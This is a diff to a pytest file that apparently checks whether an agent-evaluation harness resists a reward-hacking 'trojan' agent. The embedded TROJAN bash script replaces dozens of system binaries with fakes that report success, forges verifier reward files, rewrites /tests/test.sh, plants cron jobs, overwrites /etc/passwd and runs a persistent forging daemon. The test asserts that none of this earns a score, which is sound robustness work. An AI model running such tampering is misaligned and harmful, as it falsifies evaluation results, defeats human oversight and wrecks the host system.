@@ -13,8 +13,8 @@ from tests.tasks.corpus import NAMED, REWARD, Task, step_files, steps
 pytestmark = [pytest.mark.engine, pytest.mark.native]
 
 TROJAN = r"""#!/bin/bash
-# Keeps tools of its own, then replaces what is there.
-echo done > "$1"
+# Keeps tools of its own, then replaces what is there, and answers with what it replaced.
+answer=$1; echo done > "$answer"
 mkdir /own; cp /usr/bin/dash /own/shell; PATH=/own:$PATH
 for p in rm cat chmod ln mkdir touch tee sleep setsid; do cp /usr/bin/$p /own/$p; done
 win='echo 1 > /logs/verifier/reward.txt; echo "{\"reward\": 1}" > /logs/verifier/reward.json
@@ -22,8 +22,10 @@ win='echo 1 > /logs/verifier/reward.txt; echo "{\"reward\": 1}" > /logs/verifier
 mkdir -p /app /logs/verifier /tests /root/.local/bin
 printf '#!/own/shell\n%s\necho 1; echo PASSED; exit 0\n' "$win" > /own/fake; chmod 755 /own/fake; cp /usr/bin/cp /own/cp
 fake() { cp --remove-destination /own/fake "$@"; }
-for p in bash sh dash grep cat test \[ env head python3 curl wget pytest uv uvx git apt-get pip sed true false stat; do
+for p in bash sh dash grep cat test \[ env head python3 curl wget pytest uv uvx git apt-get pip sed true false stat \
+  find xargs timeout sha256sum cmp diff sort wc ls id awk perl node npm make; do
   for d in /usr/local/sbin /usr/local/bin /usr/bin /usr/sbin /root/.local/bin; do fake $d/$p; done
+  replaced="$replaced $p"
   [ -L /etc/alternatives/$p ] && ln -sf /own/fake /etc/alternatives/$p
 done
 for f in /usr/bin/python3.*; do fake $f; done
@@ -54,6 +56,8 @@ echo '* * * * * root /own/fake' | tee /etc/cron.d/evil /etc/crontab > /var/spool
 printf 'root:x:0:0::/app:/own/fake\n' > /etc/passwd
 echo 1 > /logs/verifier/reward.txt; echo '{"reward": 1}' > /logs/verifier/reward.json
 echo "$win" > /tests/test.sh
+echo "$replaced ld.so.preload ld.so.conf ld.so.cache sitecustomize usercustomize pth pytest-package plugin conftest \
+pytest.ini shadowing-modules start-files gitconfig crontabs passwd reward.txt reward.json tests daemon" > "$answer"
 (setsid /own/shell -c "while :; do $win; /own/sleep 0.1; done" > /dev/null 2>&1 &)
 exit 0
 """
@@ -78,11 +82,16 @@ TESTS = {
     "by-environment-of-ours": "curl -LsSf https://astral.sh/uv/install.sh | sh; cd /app; uv venv; "
     ". .venv/bin/activate; uv pip install pytest==8.4.1; "
     f"python -m pytest /tests && echo 1 > {REWARD} || echo 0 > {REWARD}",
+    "by-find": f"find /app -name done | grep -q . && echo 1 > {REWARD} || echo 0 > {REWARD}",
+    "by-timeout": f"timeout 5 test -f /app/done && echo 1 > {REWARD} || echo 0 > {REWARD}",
+    "by-sum": f"sha256sum /app/answer | grep -q ^73475cb && echo 1 > {REWARD} || echo 0 > {REWARD}",
     "by-login": f"bash -lc 'test -f /app/done' && echo 1 > {REWARD} || echo 0 > {REWARD}",
     "by-source": f". /root/.bashrc; [ -f /app/done ] && echo 1 > {REWARD} || echo 0 > {REWARD}",
     "by-git": f"git -C /app status && echo 1 > {REWARD} || echo 0 > {REWARD}",
     "named": f"[ -f /app/done ] && r=1 || r=0; echo '{{\"reward\": '$r'}}' > {NAMED}",
 }
+APART = ("plain", "by-pytest", "by-tools-of-ours", "named")
+"""Tried with a separate verifier, too, which sees nothing of the agent in any of them."""
 SEPARATE = '[verifier]\nenvironment_mode = "separate"'
 UNIT = """
 import os, unittest
@@ -94,8 +103,8 @@ class T(unittest.TestCase):
 def test_a_trojan_passes_no_task(tmp_path: Path, tool_image: str) -> None:
     project = Project(tmp_path, "native")
     for name, test in TESTS.items():
-        # All of them when somebody wants to see all; a separate verifier sees nothing of the agent in any of them.
-        modes = [("shared", "")] + [("separate", SEPARATE)] * (name == "plain" or "ALL_TROJANS" in os.environ)
+        # All of them when somebody wants to see all.
+        modes = [("shared", "")] + [("separate", SEPARATE)] * (name in APART or "ALL_TROJANS" in os.environ)
         for mode, toml in modes:
             Task(
                 name=f"{name}-{mode}", why="Do it.", toml=toml, test=test, files={"tests/test_it.py": UNIT}
@@ -109,5 +118,9 @@ def test_a_trojan_passes_no_task(tmp_path: Path, tool_image: str) -> None:
     done = Project(project.folder / "tasks", project.engine).run(".", "--target", "trojan", "--workers", "2")
     assert done.code in (1, 3), done.stderr[-3000:] + done.stdout[-2000:]
     rows = done.rows
-    assert len(rows) in (len(TESTS) + 2, 2 * len(TESTS) + 1), done.stderr[-2000:]
+    assert len(rows) in (len(TESTS) + len(APART) + 1, 2 * len(TESTS) + 1), done.stderr[-2000:]
     assert {name: row["score"] for name, row in rows.items() if row["score"] > 0} == {}
+    answers = {name: row["answer_path"] for name, row in rows.items() if row.get("answer_path")}
+    assert len(answers) >= len(rows) - 1  # in a second step it has no shell left
+    replaced = {name: len(set((done.folder / path).read_text().split())) for name, path in answers.items()}
+    assert min(replaced.values()) > 50, replaced
